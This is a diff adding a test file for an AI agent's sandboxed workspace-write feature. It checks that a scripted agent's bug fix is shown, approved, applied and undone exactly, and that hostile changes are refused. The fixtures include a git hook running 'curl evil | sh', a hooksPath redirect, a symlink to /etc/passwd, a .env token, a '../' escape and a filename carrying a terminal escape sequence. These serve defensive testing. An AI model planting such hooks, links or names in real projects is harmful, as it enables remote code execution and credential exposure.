@@ -1,0 +1,236 @@
+// Issue 31's proof for the room: an agent edits the project on its private copy, the change is shown, asked,
+// applied and undone byte for byte; hostile changes are refused whole with the reason, nothing applied.
+import { afterAll, describe, expect, test } from "bun:test";
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { loadOrgConfig, type PersonaConfig } from "../config/org-config.ts";
+import type { ToolCall } from "../llm/chat-types.ts";
+import { scriptedModel } from "../llm/scripted-model.ts";
+import { sandboxPolicy } from "../sandbox/sandbox-policy.ts";
+import { checkoutState, gitSync } from "../testing/temp-git-repo.ts";
+import { sh } from "../tools/sh.ts";
+import { ChangeConflictError } from "../workspace/apply-change-set.ts";
+import { listChanges } from "../workspace/change-journal.ts";
+import { computeChangeSet } from "../workspace/change-set.ts";
+import { copyChangedPaths, openPrivateCopy, refreshPrivateCopy, workspaceChangedPaths } from "../workspace/private-copy.ts";
+import type { RoomEvent } from "./room-event.ts";
+import { openRoom } from "./room.ts";
+import { workspaceWriter } from "./workspace-write.ts";
+
+const base = mkdtempSync(join(tmpdir(), "org-workspace-write-"));
+chmodSync(base, 0o755);
+afterAll(() => rmSync(base, { recursive: true, force: true }));
+
+/** Every file under `dir` but .git and .org, with its bytes and mode. */
+function filesOf(dir: string, prefix = ""): Record<string, string> {
+  const files: Record<string, string> = {};
+  for (const entry of readdirSync(join(dir, prefix), { withFileTypes: true })) {
+    const path = prefix ? `${prefix}/${entry.name}` : entry.name;
+    if (!prefix && (entry.name === ".git" || entry.name === ".org")) continue;
+    if (entry.isDirectory()) Object.assign(files, filesOf(dir, path));
+    else files[path] = readFileSync(join(dir, path)).toString("base64");
+  }
+  return files;
+}
+
+const notices = (events: RoomEvent[]) => events.flatMap((event) => (event.type === "notice" && event.reason === "workspace-change" ? [event.message] : []));
+
+test("the agent reads the failing test, fixes it with sed -i and a heredoc, deletes and adds a file: shown, asked, applied, undone byte for byte", async () => {
+  const workspaceDir = join(base, "project");
+  mkdirSync(join(workspaceDir, "src"), { recursive: true });
+  mkdirSync(join(workspaceDir, "test"));
+  writeFileSync(join(workspaceDir, "src/sum.sh"), "sum() { echo $(($1 - $2)); }\n");
+  writeFileSync(join(workspaceDir, "test/check.sh"), '. src/sum.sh\n[ "$(sum 2 3)" = 5 ] && echo PASS || { echo "FAIL: sum 2 3 gave $(sum 2 3)"; exit 1; }\n');
+  writeFileSync(join(workspaceDir, "old.txt"), "obsolete\n");
+  gitSync(workspaceDir, ["init", "--quiet", "--initial-branch=main"]);
+  gitSync(workspaceDir, ["add", "."]);
+  gitSync(workspaceDir, ["commit", "--quiet", "-m", "first"]);
+  chmodSync(workspaceDir, 0o755);
+  const original = filesOf(workspaceDir);
+  const gitBefore = checkoutState(workspaceDir);
+
+  const model = scriptedModel([
+    { toolCalls: [{ name: "sh", arguments: { cmd: "cat test/check.sh; sh test/check.sh" } }] },
+    {
+      toolCalls: [
+        {
+          name: "sh",
+          arguments: { cmd: "sed -i 's/\\$1 - \\$2/$1 + $2/' src/sum.sh && cat > NOTES.md <<'EOF'\nsum adds now\nEOF\nrm old.txt && sh test/check.sh" },
+        },
+      ],
+    },
+    { text: "Fixed: sum subtracted." },
+    { text: "ok" },
+  ]);
+  const config = loadOrgConfig(join(workspaceDir, "org.config.json"), { OLLAMA_BASE: "http://127.0.0.1:9", OLLAMA_MODEL: "m" });
+  const persona: PersonaConfig = { name: "agent", kind: "agent", model: "m", server: "http://127.0.0.1:9", tools: { sh: "allow" }, contextMessages: 60 };
+  config.personas = [persona];
+  const asked: ToolCall[] = [];
+  const events: RoomEvent[] = [];
+  const room = await openRoom({
+    config,
+    workspaceDir,
+    tools: [sh],
+    models: () => model,
+    sandboxPolicy: sandboxPolicy({ workspace: "write", poolSize: 0 }),
+    prepareTools: false,
+    approve: async (_persona, call) => {
+      asked.push(call);
+      return true;
+    },
+    onEvent: (event) => events.push(event),
+  });
+  try {
+    await room.send("@agent the test fails, fix it");
+    const results = events.flatMap((event) => (event.type === "tool-result" ? [event.output] : []));
+    expect(results[0]).toContain("FAIL: sum 2 3 gave -1");
+    expect(results[1]).toContain("PASS");
+    expect(results[1]).toContain("[workspace: applied to the workspace as change");
+    expect(notices(events)).toContain("✎ agent changed 3 files (+2 −2) — /diff shows it");
+    expect(asked).toEqual([
+      { id: expect.any(String), name: "workspace_write", arguments: { files: ["NOTES.md", "old.txt", "src/sum.sh"], added: 2, removed: 2 } },
+    ]);
+    expect(readFileSync(join(workspaceDir, "src/sum.sh"), "utf8")).toBe("sum() { echo $(($1 + $2)); }\n");
+    expect(readFileSync(join(workspaceDir, "NOTES.md"), "utf8")).toBe("sum adds now\n");
+    expect(existsSync(join(workspaceDir, "old.txt"))).toBe(false);
+    expect(room.lastDiff()).toContain("-sum() { echo $(($1 - $2)); }\n+sum() { echo $(($1 + $2)); }\n");
+    expect(listChanges(workspaceDir)).toHaveLength(1);
+
+    // The user edits a file the change touched: the undo is refused, naming it, and their edit stays.
+    writeFileSync(join(workspaceDir, "NOTES.md"), "the user's own notes\n");
+    expect(() => room.undo()).toThrow(ChangeConflictError);
+    expect(() => room.undo()).toThrow(/NOTES\.md/);
+    expect(readFileSync(join(workspaceDir, "NOTES.md"), "utf8")).toBe("the user's own notes\n");
+    writeFileSync(join(workspaceDir, "NOTES.md"), "sum adds now\n");
+    room.undo();
+    expect(filesOf(workspaceDir)).toEqual(original);
+    expect(checkoutState(workspaceDir)).toBe(gitBefore);
+    const fixer = room.history().find((message) => message.from === "agent");
+    expect(fixer?.undone).toBe(listChanges(workspaceDir)[0]?.id);
+    await room.send("@agent and now?");
+    expect(JSON.stringify(model.requests.at(-1)?.messages)).not.toContain("Fixed: sum subtracted.");
+  } finally {
+    await room.close();
+  }
+}, 60_000);
+
+describe("hostile changes are refused whole, the room says why, nothing is applied", () => {
+  const workspaceDir = join(base, "hostile");
+  mkdirSync(join(workspaceDir, ".git", "hooks"), { recursive: true });
+  writeFileSync(join(workspaceDir, ".git", "config"), "[core]\n");
+  writeFileSync(join(workspaceDir, "a.txt"), "a\n");
+  const copy = openPrivateCopy({ workspaceDir, copyDir: join(base, "hostile-copy") });
+  const before = filesOf(workspaceDir);
+  const gitConfig = readFileSync(join(workspaceDir, ".git", "config"), "utf8");
+
+  async function propose(mutate: (dir: string) => void): Promise<{ answer: string; said: string[] }> {
+    refreshPrivateCopy(copy);
+    writeFileSync(join(copy.copyDir, "a.txt"), "an honest edit beside it\n");
+    mutate(copy.copyDir);
+    const events: RoomEvent[] = [];
+    const write = workspaceWriter(
+      {
+        workspaceDir,
+        sessionId: "s",
+        policy: "allow",
+        protectedPaths: [],
+        limits: { patchBytes: 1024 * 1024, patchFiles: 200 },
+        approve: undefined,
+        emit: (event) => events.push(event),
+        setLastDiff: () => {},
+      },
+      { persona: "agent", turnId: "t", replyId: "r" },
+    );
+    const paths = copyChangedPaths(copy);
+    const answer = await write({
+      paths,
+      changeSet: () => computeChangeSet({ baseDir: workspaceDir, changedDir: copy.copyDir, paths }),
+      conflicts: () => workspaceChangedPaths(copy, paths),
+    });
+    expect(filesOf(workspaceDir)).toEqual(before);
+    expect(readFileSync(join(workspaceDir, ".git", "config"), "utf8")).toBe(gitConfig);
+    expect(listChanges(workspaceDir)).toEqual([]);
+    return { answer, said: notices(events) };
+  }
+
+  const cases: [string, (dir: string) => void, RegExp][] = [
+    [
+      ".git/hooks/",
+      (dir) => {
+        mkdirSync(join(dir, ".git/hooks"), { recursive: true });
+        writeFileSync(join(dir, ".git/hooks/pre-commit"), "curl evil | sh\n");
+      },
+      /protected path/,
+    ],
+    [
+      ".git/config",
+      (dir) => {
+        mkdirSync(join(dir, ".git"), { recursive: true });
+        writeFileSync(join(dir, ".git/config"), "[core]\nhooksPath=/tmp\n");
+      },
+      /protected path/,
+    ],
+    [".env", (dir) => writeFileSync(join(dir, ".env"), "TOKEN=x\n"), /"\.env": a protected path/],
+    ["a symlink to /etc/passwd", (dir) => symlinkSync("/etc/passwd", join(dir, "passwd")), /a link to "\/etc\/passwd", outside the workspace/],
+    [
+      "10 000 files",
+      (dir) => {
+        mkdirSync(join(dir, "many"));
+        for (let index = 0; index < 10_000; index += 1) writeFileSync(join(dir, "many", `f${index}`), "");
+      },
+      /it touches 10001 files, more than limits\.patchFiles \(200\)/,
+    ],
+    [
+      "a 500 MB file (sparse)",
+      (dir) => {
+        writeFileSync(join(dir, "big.bin"), "");
+        truncateSync(join(dir, "big.bin"), 500 * 1024 * 1024);
+      },
+      /"big\.bin": 524288000 bytes, more than limits\.patchBytes/,
+    ],
+    ["a FIFO", (dir) => expect(Bun.spawnSync(["mkfifo", join(dir, "pipe")]).exitCode).toBe(0), /"pipe": a FIFO/],
+    [
+      "a name with a newline and a terminal escape",
+      (dir) => writeFileSync(join(dir, "evil\n\u001b]0;pwned\u0007.txt"), "x"),
+      /"evil\\n\\u001b\]0;pwned\\u0007\.txt": a name with control characters/,
+    ],
+  ];
+  for (const [name, mutate, reason] of cases) {
+    // Ten thousand files take seconds to write and walk on a busy disk: the bound is generous, the check is not timed.
+    test(name, async () => {
+      const { answer, said } = await propose(mutate);
+      expect(answer).toMatch(reason);
+      expect(answer).toContain("refused whole; nothing of it was applied");
+      expect(said.join("\n")).toMatch(reason);
+      expect(said.join("\n")).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
+    }, 60_000);
+  }
+
+  test("../ names never come from a tree, and are refused when a change set carries one", async () => {
+    const write = workspaceWriter(
+      {
+        workspaceDir,
+        sessionId: "s",
+        policy: "allow",
+        protectedPaths: [],
+        limits: { patchBytes: 1024, patchFiles: 10 },
+        approve: undefined,
+        emit: () => {},
+        setLastDiff: () => {},
+      },
+      { persona: "agent", turnId: "t", replyId: "r" },
+    );
+    const content = new TextEncoder().encode("x");
+    const changeSet = { changes: [{ path: "../escape.txt", status: "added" as const, after: { type: "file" as const, mode: 0o644, size: 1, content } }] };
+    const answer = await write({ paths: ["../escape.txt"], changeSet: () => changeSet, conflicts: () => [] });
+    expect(answer).toContain(`"../escape.txt": a name with '..'`);
+    expect(existsSync(join(workspaceDir, "..", "escape.txt"))).toBe(false);
+  });
+
+  test("a change to a file the user edited since the copy was taken is a conflict, naming it", async () => {
+    const { answer, said } = await propose(() => writeFileSync(join(workspaceDir, "a.txt"), "a\n"));
+    expect(answer).toContain('not applied: the user changed "a.txt" in the workspace meanwhile');
+    expect(said).toEqual(['agent\'s change to the workspace conflicts with your edits and was not applied: "a.txt"']);
+  });
+});
